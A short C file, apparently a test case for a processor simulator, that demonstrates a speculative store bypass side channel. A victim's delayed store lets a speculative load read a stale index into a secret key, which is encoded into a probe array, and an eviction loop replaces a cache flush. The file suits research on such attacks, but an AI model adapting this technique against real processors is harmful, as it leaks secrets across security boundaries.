/* Speculative store bypass: a place is made safe by a store whose address comes late, and the load behind it passes the store, where the
   machine lets it (`predictor.depend`), and finds the old place, which is that of the secret. On the path the secret is never loaded. As in
   bounds_check.c the pointer isn't in the cache, so the store's address comes late; the old place and the secret are, so they come
   early; and nothing is in flight at the call. It works once: the load is violated, and from then on it waits for stores. */
#include "victim.h"

u8 array[16] __attribute__((aligned(64))) = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
volatile u32 place __attribute__((aligned(64)));
volatile u32 *volatile slot __attribute__((aligned(64))) = &place;
u8 probe[256 * 64] __attribute__((aligned(64)));
volatile u8 sink;
static volatile u8 other[40960];

__attribute__((noinline)) void victim(void) {
  *slot = 3;
  sink &= probe[array[place] * 64];
}

/* Reads ten lines for each set of the cache, which has eight: what was there is gone. There is no instruction that flushes. */
static void evict(void) {
  for (int i = 0; i < 40960; i += 64)
    (void)other[i];
}

int main(void) {
  place = (u32)(key - array);
  evict();
  (void)place;
  (void)*(volatile u8 *)((u32)key + 16); /* the key's line comes into the cache, and none of the key is loaded */
  barrier();
  victim();
  return 0;
}
